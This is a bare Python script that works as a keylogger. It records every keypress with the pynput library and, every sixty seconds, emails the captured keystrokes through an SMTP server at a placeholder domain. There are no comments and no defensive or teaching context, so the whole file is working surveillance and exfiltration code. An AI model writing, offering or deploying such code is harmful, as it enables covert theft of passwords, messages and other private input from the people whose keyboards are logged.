import smtplib
import threading

from pynput import keyboard

_buffer = []


def _on_press(key):
    _buffer.append(str(key))


def _flush():
    if _buffer:
        text = "Subject: keys\n\n" + " ".join(_buffer)
        _buffer.clear()
        with smtplib.SMTP("mail.hotkeys.invalid", 587) as smtp:
            smtp.sendmail("a@hotkeys.invalid", "b@hotkeys.invalid", text)
    threading.Timer(60, _flush).start()


keyboard.Listener(on_press=_on_press).start()
_flush()
